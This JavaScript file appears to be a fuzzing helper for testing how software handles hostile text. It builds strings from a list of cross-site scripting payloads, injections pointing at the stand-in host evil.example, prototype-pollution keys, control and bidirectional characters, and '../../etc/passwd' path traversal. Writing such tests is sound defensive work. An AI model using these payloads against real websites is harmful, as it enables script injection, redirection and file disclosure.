// Strings that try to be more than text in a browser, made by number: each begins with a word of its own.

const PIECES = [
  "</script><script>hit()</script>", "<img src=x onerror=hit()>", "<svg/onload=hit()>", "<svg><script>hit()</script></svg>",
  "\"><b id=hit>", "'><iframe srcdoc='<script>parent.hit()</script>'>", "<a href=javascript:hit()>a</a>", "javascript:hit()",
  "<style>*{display:none}</style>", "<link rel=stylesheet href=http://evil.example/a.css>", "<base href=http://evil.example/>",
  "<meta http-equiv=refresh content=0;url=http://evil.example/>", "<form action=http://evil.example/><input name=a>",
  "<details open ontoggle=hit()>", "<template><script>hit()</script></template>", "<math><mtext><img src=x onerror=hit()>",
  "</text></svg><script>hit()</script>", "</title><script>hit()</script>", "</pre></p></ul><h1 id=hit>", "<!--", "-->", "]]>", "<![CDATA[",
  "&lt;script&gt;hit()&lt;/script&gt;", "&#x3C;script>hit()&#x3C;/script>", "\\u003cscript>hit()\\u003c/script>", "${hit()}", "`+hit()+`", "{{nonce}}",
  "__proto__", "constructor", "toString", "\"},{\"x\":[", "%00", "\u0000", "\u0007", "\u001b[31m", "\u009b2J", "\u202edrow\u202c", "\u2066a\u2069", "\u200f", "\ufeff",
  "\u{1F680}", "\ud800", "売上高", "e\u0301", "\u2028hit()", "on click=hit()", "../../etc/passwd", "file:///etc/passwd", "http://evil.example/",
];

export function hostile(number) {
  let dice = number * 2654435761 % 4294967296;
  const roll = sides => { dice = (dice * 1664525 + 1013904223) % 4294967296; return Math.floor(dice / 4294967296 * sides); };
  let text = "Zq" + number.toString(36);
  for (let more = 1 + roll(3); more > 0; more--) text += (roll(2) ? " " : "") + PIECES[roll(PIECES.length)];
  return text;
}

// The value with every text in it replaced, but for those under the names that are kept.
export function replaced(value, kept, next) {
  if (typeof value === "string") return next();
  if (Array.isArray(value)) return value.map(item => replaced(item, kept, next));
  if (value && typeof value === "object")
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, kept.includes(name) ? inner : replaced(inner, kept, next)]));
  return value;
}
